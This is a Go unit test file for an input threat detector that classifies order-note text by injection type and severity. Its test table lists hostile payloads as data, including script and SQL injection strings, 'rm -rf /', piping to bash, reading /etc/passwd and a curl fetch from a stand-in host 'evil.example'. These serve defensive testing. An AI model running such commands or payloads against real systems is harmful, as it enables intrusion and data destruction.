package threat

import (
	"testing"
)

func TestDetect_Empty(t *testing.T) {
	a := Detect("")
	if !a.Clean {
		t.Error("expected empty input to be clean")
	}
	if a.Severity != SeverityNone {
		t.Errorf("expected severity none, got %s", a.Severity)
	}
	if len(a.Threats) != 0 {
		t.Errorf("expected no threats, got %v", a.Threats)
	}
}

func TestDetect_Categories(t *testing.T) {
	tests := []struct {
		name         string
		input        string
		wantThreat   string
		wantSeverity Severity
	}{
		{"script tag", `<script>alert(1)</script>`, ScriptInjection, SeverityCritical},
		{"script tag with spaces", `< SCRIPT src=x>`, ScriptInjection, SeverityCritical},
		{"javascript protocol", `javascript:alert(1)`, ScriptInjection, SeverityCritical},
		{"vbscript protocol", `VBScript:msgbox`, ScriptInjection, SeverityCritical},
		{"sql tautology", `' OR 1=1`, SQLInjection, SeverityCritical},
		{"sql quoted tautology", `x' or 'a'='a`, SQLInjection, SeverityCritical},
		{"union select", `1 UNION ALL SELECT password FROM users`, SQLInjection, SeverityCritical},
		{"stacked drop", `1; DROP TABLE orders`, SQLInjection, SeverityCritical},
		{"quote comment", `admin'--`, SQLInjection, SeverityCritical},
		{"chained shell", `meal && rm -rf /`, CommandInjection, SeverityCritical},
		{"backticks", "name `whoami`", CommandInjection, SeverityCritical},
		{"substitution", `$(curl evil.sh)`, CommandInjection, SeverityCritical},
		{"bare command at end", `lunch; id`, CommandInjection, SeverityCritical},
		{"piped to shell", `x | bash`, CommandInjection, SeverityCritical},
		{"command with path", `notes; cat /etc/passwd`, CommandInjection, SeverityCritical},
		{"command with url", `a && curl https://evil.example/x.sh`, CommandInjection, SeverityCritical},
		{"backticks with args", "`cat /etc/hosts`", CommandInjection, SeverityCritical},
		{"unix traversal", `../../etc/passwd`, PathTraversal, SeverityHigh},
		{"windows traversal", `..\..\boot.ini`, PathTraversal, SeverityHigh},
		{"encoded traversal", `%2e%2e%2fsecret`, PathTraversal, SeverityHigh},
		{"onload handler", `<img src=x onload=alert(1)>`, EventHandler, SeverityHigh},
		{"onclick handler", `<a onclick = "x()">`, EventHandler, SeverityHigh},
		{"iframe", `<iframe src="https://evil">`, EmbeddedContent, SeverityMedium},
		{"null byte", "file.txt\x00.jpg", NullByte, SeverityMedium},
		{"encoded angle bracket", `%3Cb%3E`, EncodedPayload, SeverityLow},
		{"bare keyword", `please select a drink`, SQLKeyword, SeverityLow},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := Detect(tt.input)
			if a.Clean {
				t.Fatalf("expected %q to be flagged", tt.input)
			}
			found := false
			for _, name := range a.Threats {
				if name == tt.wantThreat {
					found = true
				}
			}
			if !found {
				t.Errorf("expected threat %q in %v", tt.wantThreat, a.Threats)
			}
			if a.Severity != tt.wantSeverity {
				t.Errorf("expected severity %s, got %s", tt.wantSeverity, a.Severity)
			}
		})
	}
}

func TestDetect_CleanInputs(t *testing.T) {
	inputs := []string{
		"Grilled chicken with rice",
		"Team dinner for 45 athletes",
		"Deliver to Gate B, 6:30pm",
		"O'Brien",
		"no nuts (allergy)",
		"online ordering",
	}
	for _, in := range inputs {
		if a := Detect(in); !a.Clean {
			t.Errorf("expected %q to be clean, got %v (%s)", in, a.Threats, a.Severity)
		}
	}
}

// Order notes often use semicolons, pipes and quoting in plain prose.
func TestDetect_ShellWordsInProse(t *testing.T) {
	inputs := []string{
		"salad; id like extra dressing",
		"rice; cat lovers on the team",
		"vegan option | ls and sh sizes",
		"ask for the `chef's special`",
		"label it `team rm 4`",
		"pasta && cats allowed",
	}
	for _, in := range inputs {
		if a := Detect(in); a.Blocking() {
			t.Errorf("expected %q not to block, got %v (%s)", in, a.Threats, a.Severity)
		}
	}
}

// A low and a critical match together must report the maximum tier.
func TestDetect_SeverityIsMaximum(t *testing.T) {
	a := Detect(`select the <script>steal()</script> option`)
	if a.Severity != SeverityCritical {
		t.Fatalf("expected critical, got %s", a.Severity)
	}
	if len(a.Threats) < 2 {
		t.Errorf("expected both keyword and script threats, got %v", a.Threats)
	}
	if !a.Blocking() {
		t.Error("expected critical assessment to block")
	}
}

func TestDetect_ThreatNamesUnique(t *testing.T) {
	a := Detect(`<script>x</script> javascript:y`)
	count := 0
	for _, name := range a.Threats {
		if name == ScriptInjection {
			count++
		}
	}
	if count != 1 {
		t.Errorf("expected script_injection once, got %d in %v", count, a.Threats)
	}
}

func TestDetectAll_MergesInputs(t *testing.T) {
	a := DetectAll("", "select", "../x")
	if a.Severity != SeverityHigh {
		t.Errorf("expected high, got %s", a.Severity)
	}
	if a.Summary() != SQLKeyword+","+PathTraversal && a.Summary() != PathTraversal+","+SQLKeyword {
		t.Errorf("unexpected summary %q", a.Summary())
	}

	if empty := DetectAll(); !empty.Clean {
		t.Error("expected no inputs to be clean")
	}
}

func TestBlocking(t *testing.T) {
	tests := []struct {
		sev  Severity
		want bool
	}{
		{SeverityNone, false},
		{SeverityLow, false},
		{SeverityMedium, false},
		{SeverityHigh, true},
		{SeverityCritical, true},
	}
	for _, tt := range tests {
		t.Run(tt.sev.String(), func(t *testing.T) {
			if got := (Assessment{Severity: tt.sev}).Blocking(); got != tt.want {
				t.Errorf("Blocking() = %v, want %v", got, tt.want)
			}
		})
	}
}
